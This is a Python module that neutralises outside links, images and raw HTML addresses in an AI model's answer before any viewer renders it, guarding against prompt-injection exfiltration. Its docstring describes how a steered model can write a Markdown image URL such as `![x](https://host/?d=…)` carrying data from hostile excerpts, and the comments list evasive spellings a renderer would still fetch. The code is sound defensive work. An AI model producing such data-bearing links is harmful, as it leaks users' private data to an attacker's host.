"""Links and images to outside addresses in a model's answer: made inert before anyone sees it.

A model that read a hostile excerpt can be steered into writing `![x](https://host/?d=…)`
with data from the excerpts in the URL. A Markdown viewer fetches an image as soon as it
shows it, and an MCP client or chat app may fetch or preview a link, so the answer
itself would send the data out. Every interface shows the answer, so this runs once,
where the answer is finished, before any of them sees it.

What may stay is decided by rendering, not by patterns: the answer is parsed as a CommonMark
renderer parses it (markdown-it-py, the parser Textual's Markdown widget uses, with raw HTML
and bare-URL linking on), and every link and image target is inspected, including the
addresses in raw HTML (`src`, `href`, `srcset`, `style`'s `url(…)`, any other attribute),
autolinks and reference definitions. Markdown has too many spellings of one link (entities,
backslash escapes, a destination on the next line, code spans that are not code) for
regular expressions to decide this; a renderer's parse spells them all out.

Two passes, then, each judged by that parse:

- first the common spellings are rewritten readably: a link or image keeps its text (an
  image its alt text) and loses the address; an HTML tag with an address is dropped, the
  text between tags kept; autolinks and bare URLs are put in a code span (still readable,
  never fetched, linked or previewed);
- then whatever the renderer still finds pointing outside (the spellings that pass made
  no sense of) has its whole top-level block shown as a fenced code block: inert text that
  still shows what it was. If anything is left after that, the whole answer is fenced.

A target may stay when it is the repository's own: a `path:start-end` citation, an anchor,
or a relative path that stays inside the repository (no scheme, no host, no `..` above the
root, no query, no backslash). Code spans and fenced code blocks are left exactly as written:
Markdown never fetches from code, and a quoted line of code must read as it is in the file.
"""

from __future__ import annotations

import posixpath
import re
from dataclasses import dataclass
from functools import cache
from html import unescape
from html.parser import HTMLParser
from urllib.parse import unquote

from markdown_it import MarkdownIt
from markdown_it.token import Token

_OUTSIDE = re.compile(r"^\s*<?\s*(?:[A-Za-z][A-Za-z0-9+.-]*:|//|\\\\)")
# Link text: anything but brackets, or one level of nested brackets (`[![img](u)](v)`).
_TEXT = r"(?P<text>(?:[^\[\]\n]|\[[^\[\]\n]*\])*)"
# A destination: `<…>`, or a run without spaces that may hold balanced parentheses.
_DESTINATION = r"(?P<url><[^<>\n]*>|(?:[^\s()]|\([^\s()]*\))+)"
_TITLE = r"""(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?"""
_INLINE = re.compile(r"(?P<bang>!?)\[" + _TEXT + r"\]\(\s*" + _DESTINATION + _TITLE + r"\s*\)")
_DEFINITION = re.compile(
    r"^ {0,3}\[(?P<label>[^\[\]\n]+)\]:[ \t]*" + _DESTINATION + _TITLE + r"[ \t]*$\n?", re.M
)
_REFERENCE = re.compile(r"(?P<bang>!?)\[" + _TEXT + r"\](?:\[(?P<label>[^\[\]\n]*)\])?")
_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>`]*)>")
# A tag with an attribute whose value is an address: `<img src="https://…">`, `<a href=//h>`.
_TAG_WITH_ADDRESS = re.compile(
    r"<[A-Za-z][\w-]*\s[^<>]*?=\s*[\"']?\s*(?:[A-Za-z][\w+.-]*:|//|\\\\)[^<>]*>"
)
_CLOSING_ANCHOR = re.compile(r"</a\s*>", re.I)
# As viewers linkify them: trailing punctuation ends the sentence, not the URL.
_BARE_URL = re.compile(
    r"(?<![\w`])(?:[A-Za-z][A-Za-z0-9+.-]*://|www\.)[^\s<>`\"')\]]*[^\s<>`\"')\].,;:!?*_~]"
)
# Fenced blocks (``` or ~~~, to the matching fence or the end) and code spans.
_CODE = re.compile(
    r"^ {0,3}(?P<fence>`{3,}|~{3,})[^\n]*\n.*?(?:^ {0,3}(?P=fence)[`~]*[ \t]*$|\Z)"
    r"|(?P<ticks>`+)[^`].*?(?<!`)(?P=ticks)(?!`)",
    re.M | re.S,
)


@dataclass(frozen=True, slots=True)
class DefangedText:
    text: str
    removed: int  # links, images and tags whose address was dropped
    fenced: int  # bare URLs and autolinks put in a code span
    quoted: int = 0  # blocks the renderer still found linking out, shown as code


def defang_links(text: str) -> DefangedText:
    """`text` with every link, image, tag and URL to an outside address made inert."""
    # A lone CR ends a line for a renderer but not for every viewer (the chat shows it as a
    # character): with one kind of line end, what was judged is what is shown.
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    if text.count("[") > _MOST_BRACKETS or text.count("`") > _MOST_BACKTICKS:
        return DefangedText(_quoted(text, [(0, text.count("\n") + 1)]), 0, 0, 1)
    text, removed, fenced = _rewritten_readably(text)
    quoted = 0
    for _ in range(_QUOTING_ROUNDS):
        blocks = outside_blocks(text)
        if not blocks:
            return DefangedText(text, removed, fenced, quoted)
        text = _quoted(text, blocks)
        quoted += len(blocks)
    if outside_blocks(text):
        text, quoted = _quoted(text, [(0, text.count("\n") + 1)]), quoted + 1
    return DefangedText(text, removed, fenced, quoted)


def links_note(defanged: DefangedText) -> str | None:
    """One line saying what `defang_links` changed; None when it changed nothing."""
    parts = []
    if defanged.removed:
        parts.append(f"{_count(defanged.removed, 'outside address')} dropped (the text is kept)")
    if defanged.fenced:
        parts.append(f"{_count(defanged.fenced, 'URL')} put in code")
    if defanged.quoted:
        parts.append(f"{_count(defanged.quoted, 'passage')} linking out shown as code")
    if not parts:
        return None
    return f"Links check: {' and '.join(parts)}, so that no viewer fetches them with data."


# ---- the judge: what a renderer would fetch or link to --------------------------------------

# markdown-it's link parsing and the code-span pattern below take time that grows with the
# square of unclosed `[` and of backticks (20,000 `[`: 3-7 s on this machine; 2,000: 0.03 s),
# and so does any Markdown viewer's render. An answer holding more than this (a steered
# model's, never a real one: answers are a few kilobytes) is shown whole as code, at once.
_MOST_BRACKETS = 2_000
_MOST_BACKTICKS = 2_000
# Fencing blocks cannot make another block link out, so a second round finds nothing; the
# rounds only bound the work on input no one foresaw, after which the whole answer is fenced.
_QUOTING_ROUNDS = 2
# Nesting the parser follows (Textual's gfm-like preset stops at 20, so a link 21 quotes
# deep would go unseen here and be rendered by a renderer without that limit). Past this
# the block is judged as linking out; deeper Python recursion is not risked.
_MAX_NESTING = 100
# Raw HTML whose element fetches by itself, whatever its attributes say.
_FETCHING_ELEMENTS = frozenset(
    "style script link meta base iframe frame frameset object embed applet portal".split()
)
# Attributes that never hold an address; `src`, `href` and `srcset` may hold the
# repository's own paths; any other attribute with a value (poster, background, data,
# action, formaction, xlink:href, ping, style, on…) counts as linking out.
_PLAIN_ATTRIBUTES = frozenset(
    "alt title class id lang dir align width height colspan rowspan open name".split()
)
_ADDRESS_ATTRIBUTES = frozenset({"src", "href"})
# Inside raw HTML, after entities are decoded and spaces dropped: addresses a browser
# follows that attribute parsing might not surface (a tag left unfinished, CSS escapes).
_HTML_ADDRESS_HINTS = ("//", "url(", "image-set(", "@import", "\\")
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*:")
_CITATION = re.compile(r"[\w./-]+:\d+(?:-\d+)?")  # `path:start-end`, as the agent cites
_TAG_START = re.compile(r"<[A-Za-z]")
# What browsers drop from a URL before reading it (so `ht\ttps:` is `https:`).
_URL_IGNORED = re.compile(r"[\x00-\x20\x7f]")
_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def outside_blocks(text: str) -> list[tuple[int, int]]:
    """The line ranges [start, end) of top-level blocks that a renderer would make fetch or
    link outside the repository; [(0, lines)] when the text cannot be judged block by block.

    Judged as written, with control characters dropped and with them shown as a printable
    stand-in, as viewers differ in what they do with them (the chat shows a picture).
    """
    found: set[tuple[int, int]] = set()
    variants = {text, _CONTROLS.sub("", text), _CONTROLS.sub("\ufffd", text)}
    for variant in variants:  # the same lines in each: only characters inside a line differ
        found.update(_outside_blocks_as_rendered(variant))
    merged: list[tuple[int, int]] = []  # variants may see blocks that overlap
    for start, end in sorted(found):
        if merged and start < merged[-1][1]:
            merged[-1] = (merged[-1][0], max(merged[-1][1], end))
        else:
            merged.append((start, end))
    return merged


def _outside_blocks_as_rendered(text: str) -> list[tuple[int, int]]:
    whole = [(0, text.count("\n") + 1)]
    try:
        tokens = _renderer().parse(text)
    except RecursionError:
        return whole
    found: list[tuple[int, int]] = []
    block: tuple[int, int] | None = None
    for token in tokens:
        if token.level == 0 and token.map is not None:
            block = (token.map[0], token.map[1])
        nested = [token, *(token.children or [])]
        if any(t.level >= _MAX_NESTING - 1 for t in nested) or any(map(_links_out, nested)):
            if block is None:
                return whole
            if block not in found:
                found.append(block)
    return found


@cache
def _renderer() -> MarkdownIt:
    renderer = MarkdownIt("gfm-like", {"maxNesting": _MAX_NESTING})
    # markdown-it leaves `javascript:` and most `data:` targets as text; other renderers do
    # not, so every target is surfaced and judged here.
    renderer.validateLink = lambda url: True  # type: ignore[method-assign]
    return renderer


def _links_out(token: Token) -> bool:
    if token.type == "link_open":
        href = str(token.attrGet("href") or "")
        # An e-mail address shown as itself (`<a@b.org>`, or bare) links to `mailto:` that
        # address and carries nothing the reader does not see.
        shown_as_itself = token.markup in ("autolink", "linkify")
        if shown_as_itself and href.startswith("mailto:") and "?" not in href:
            return False
        return not inside_repository(href)
    if token.type == "image":
        return not inside_repository(str(token.attrGet("src") or ""))
    if token.type in ("html_inline", "html_block"):
        return _html_links_out(token.content)
    return False


def inside_repository(target: str) -> bool:
    """Whether a link target is the repository's own: an anchor, a `path:start-end`
    citation, or a relative path that stays inside (no scheme, host, query or `..` above)."""
    url = _URL_IGNORED.sub("", unquote(target))
    if not url or url.startswith("#"):
        return True
    if "\\" in url or url.startswith("/"):
        return False  # a host (`//h`, `/\\h`), or the viewer's own host's root
    if _CITATION.fullmatch(url):
        return True
    if _SCHEME.match(url):
        return False
    path = url.partition("#")[0]
    if "?" in path:
        return False
    normal = posixpath.normpath(path)
    return normal != ".." and not normal.startswith("../")


def _html_links_out(html: str) -> bool:
    tags = _Tags()
    try:
        tags.feed(html)
        tags.close()
    except (AssertionError, ValueError):  # html.parser gives up on some malformed input
        return True
    if len(tags.seen) < len(_TAG_START.findall(html)):
        return True  # a tag the parser could not read: a browser may read it otherwise
    squashed = _URL_IGNORED.sub("", unescape(html)).lower()
    if any(hint in squashed for hint in _HTML_ADDRESS_HINTS):
        return True
    for name, attributes in tags.seen:
        if name in _FETCHING_ELEMENTS:
            return True
        for attribute, value in attributes:
            if value is None or attribute in _PLAIN_ATTRIBUTES:
                continue
            if attribute in _ADDRESS_ATTRIBUTES:
                if not inside_repository(value):
                    return True
            elif attribute == "srcset":
                if not all(
                    inside_repository(part.split()[0]) for part in value.split(",") if part.split()
                ):
                    return True
            else:
                return True
    return False


class _Tags(HTMLParser):
    """Every start tag in a piece of raw HTML, with its attributes' decoded values."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, attrs))


def _quoted(text: str, blocks: list[tuple[int, int]]) -> str:
    """`text` with each block's lines inside a fence no line of theirs can close."""
    lines = text.split("\n")
    for start, end in sorted(blocks, reverse=True):
        inside = lines[start:end]
        # Runs are measured with control characters dropped, where they are longest.
        runs = [len(run) for run in re.findall(r"`+", _CONTROLS.sub("", "\n".join(inside)))]
        fence = "`" * max(3, max(runs, default=0) + 1)
        lines[start:end] = ["", fence, *inside, fence, ""]
    return "\n".join(lines)


# ---- the readable rewrite of the common spellings -------------------------------------------


def _rewritten_readably(text: str) -> tuple[str, int, int]:
    """The common spellings of outside links rewritten to their text; (text, removed, fenced)."""
    pieces: list[str] = []
    removed = fenced = 0
    cursor = 0
    for code in _CODE.finditer(text):
        prose = _Prose(text[cursor : code.start()])
        pieces.append(prose.defanged())
        pieces.append(code.group())
        removed, fenced = removed + prose.removed, fenced + prose.fenced
        cursor = code.end()
    prose = _Prose(text[cursor:])
    pieces.append(prose.defanged())
    return "".join(pieces), removed + prose.removed, fenced + prose.fenced


def _count(number: int, thing: str) -> str:
    return f"{number} {thing}" + ("" if number == 1 else "es" if thing.endswith("s") else "s")


class _Prose:
    """One stretch of Markdown outside code, defanged on demand, counting what changed."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.removed = 0
        self.fenced = 0

    def defanged(self) -> str:
        text = self.text
        if not text:
            return text
        dropped: set[str] = set()

        def definition(match: re.Match[str]) -> str:
            if not _OUTSIDE.match(match.group("url")):
                return match.group()
            dropped.add(_label(match.group("label")))
            self.removed += 1
            return ""

        text = _DEFINITION.sub(definition, text)
        text = _INLINE.sub(self._inline, text)

        def reference(match: re.Match[str]) -> str:
            label = match.group("label")
            key = _label(label if label else match.group("text"))
            return match.group("text") if key in dropped else match.group()

        if dropped:
            text = _REFERENCE.sub(reference, text)
        text = _AUTOLINK.sub(self._fence, text)
        text, count = _TAG_WITH_ADDRESS.subn("", text)
        if count:
            self.removed += count
            text = _CLOSING_ANCHOR.sub("", text)
        return _BARE_URL.sub(self._fence, text)

    def _inline(self, match: re.Match[str]) -> str:
        # The text may hold a link or image itself (`[![alt](img)](link)`): defang it too.
        inner = _INLINE.sub(self._inline, match.group("text"))
        if _OUTSIDE.match(match.group("url")):
            self.removed += 1
            return inner
        whole, offset = match.group(), match.start()
        return whole[: match.start("text") - offset] + inner + whole[match.end("text") - offset :]

    def _fence(self, match: re.Match[str]) -> str:
        self.fenced += 1
        url = match.group("url") if "url" in match.groupdict() else match.group()
        return f"`{url}`"


def _label(label: str) -> str:
    """A reference label as Markdown matches it: case and runs of spaces do not count."""
    return " ".join(label.split()).casefold()
